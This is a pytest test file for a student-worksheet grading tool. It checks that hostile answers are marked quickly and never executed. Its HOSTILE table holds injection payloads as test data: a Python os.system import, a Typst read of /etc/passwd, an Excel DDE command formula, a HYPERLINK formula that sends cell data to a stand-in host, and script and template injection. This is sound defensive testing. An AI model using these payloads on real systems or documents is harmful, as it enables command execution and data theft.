"""Promise 1: student text is data. Nothing that a student writes is executed, and nothing makes marking slow."""

import builtins
import os
import subprocess
from time import process_time

import pytest
from classroom import asked, computing_on, marks, original, original_taller

from grader.check.grade import Class, grade
from grader.check.match.document import match
from grader.check.policy import Policy
from grader.generate.assignment import load_assignment
from grader.model import Document, Heading, Line
from grader.sheets import build

HOSTILE = {
    "import": '__import__("os").system("x")',
    "import in a sum": '600 + __import__("os").system("x")',
    "power tower": "9**9**9**9",
    "power tower with carets": "9^9^9^9 = 601",
    "10 000 digits": "9" * 10_000,
    "399 digits": "9" * 399,
    "10 000 parentheses": "(" * 10_000,
    "10 000 balanced parentheses": "(" * 5_000 + ")" * 5_000,
    "390 parentheses": "(" * 390,
    "195 balanced parentheses": "(" * 195 + "6" + ")" * 195,
    "199 minus signs": "-" * 199 + "6",
    "a chain of products": "*".join(["999999999"] * 39),
    "typst": '#read("/etc/passwd")',
    "excel": "=cmd|' /C calc'!A0",
    "excel link": '=HYPERLINK("http://x.example/"&A1,"600")',
    "html": "<script>alert(1)</script>",
    "jinja": "{{ 7*7 }}{% for x in range(9**9) %}{% endfor %}",
    "format": "{x.__class__} {y!r}",
    "lambda": "(lambda: 600)()",
    "many fractions": r"\frac{" * 60 + "1" + "}{2}" * 60,
    "many slashes": "1/" * 199 + "0",
    "control characters": "\x00\x01\x1e\x1b[31m600",
    "turned around": "\u202e006",
    "lone surrogate": "\ud800",
    "spaces": " " * 100_000 + "!",
    "many commas": "1," * 199,
    "many equals": "=" * 399,
    "many words": "a " * 199,
}


def handed_in(data, name):
    worksheet = original_taller()
    return grade(data, name, Class({worksheet.code: worksheet}, Policy(), worksheet))


@pytest.fixture
def no_execution(monkeypatch):
    """Whoever calls an interpreter of any kind fails the test."""
    import sympy
    import sympy.parsing.sympy_parser

    handed_in(b"# Ejemplo 4\n", "calienta.md")  # importing a reader is allowed to run Python's own code

    def forbidden(*args, **kwargs):
        raise AssertionError(f"executed {args}")

    for module, name in (
        (sympy, "sympify"), (sympy, "S"), (sympy, "parse_expr"), (sympy.parsing.sympy_parser, "parse_expr"),
        (builtins, "eval"), (os, "system"), (os, "popen"), (subprocess, "Popen"), (subprocess, "run"),
    ):  # fmt: skip
        monkeypatch.setattr(module, name, forbidden)
    real = builtins.exec
    monkeypatch.setattr(
        builtins, "exec", lambda code, *rest: real(code, *rest) if not isinstance(code, str) else forbidden(code)
    )


@pytest.mark.usefixtures("no_execution")
@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE)
@pytest.mark.parametrize("ref", ["CONV1/weights", "CONV1/out_shape", "POOL1/biases", "total"])
def test_a_hostile_cell_is_marked_within_a_tenth_of_a_second_and_never_run(text, ref):
    sheet = original("ejemplo-4")
    texts = {**computing_on(sheet, {}), ref: text}
    start = process_time()
    found = marks(sheet, texts)
    assert process_time() - start < 0.1
    assert found[ref].verdict in ("review", "incorrect", "blank")
    assert found[ref].earned == 0
    assert all(found[other].verdict == "correct" for other in asked(sheet) if other != ref)


@pytest.mark.usefixtures("no_execution")
@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE)
def test_a_hostile_text_in_any_part_of_a_file_gets_a_report(text):
    """As a layer's name, a heading, a given cell and a line around the table."""
    text = text.replace("|", "\\|").replace("\n", " ").replace("\0", "").encode("utf-8", "replace").decode()
    page = (
        f"{text}\n\n# Ejemplo 4\n\n{text}\n\n| Capa | {text} | # de Pesos | # de Sesgos |\n|---|---|---|---|\n"
        f"| CONV1 | {text} | 600 | 8 |\n| {text} | | 1 | 2 |\n\nTotal de parámetros: {text}\n"
    )
    start = process_time()
    report = handed_in(page.encode(), f"{text[:40].replace('/', '_')}.md")
    assert process_time() - start < 0.5
    assert report.marks, report.notices
    found = {mark.cell: mark for mark in report.marks}
    assert found["ejemplo-4/CONV1/biases"].verdict == "correct"
    assert found["ejemplo-4/total"].verdict in ("review", "incorrect", "blank")


def test_marking_does_not_import_sympy():
    """SymPy prints our own formulas; a student's answers never come near it."""
    code = (
        "import sys; sys.path.insert(0, 'tests')\n"
        "from classroom import *\n"
        "s = original('ejemplo-4'); marks(s, {**computing_on(s, {}), 'CONV1/weights': '5*5*3*8', 'FC/weights': '1'})\n"
        "sys.exit('sympy' in sys.modules)"
    )
    from pathlib import Path
    from sys import executable

    assert subprocess.run([executable, "-c", code], cwd=Path(__file__).parents[1], check=False).returncode == 0


@pytest.mark.parametrize("exercise", ["ejemplo-4", "tamano-de-salida", "inciso-3", "inciso-4", "inciso-5"])
@pytest.mark.parametrize("filling", [" ", "\t", "a", "a ", "1 ", "= ", "neta=1 ", "w(2,4) ", "(", ";", "P1 "])
def test_a_line_of_20_000_characters_is_gone_through_once(exercise, filling):
    """Two seconds are a hundred times what it takes; a pattern that begins anew at each character takes minutes."""
    (blueprint,) = load_assignment([exercise]).blueprints
    sheet = build(blueprint.original())
    line = Line(f"P1 {filling * (20_000 // len(filling))} x", "")
    started = process_time()
    match(Document("md", (Heading(sheet.title, ""), line)), [sheet])
    assert process_time() - started < 2
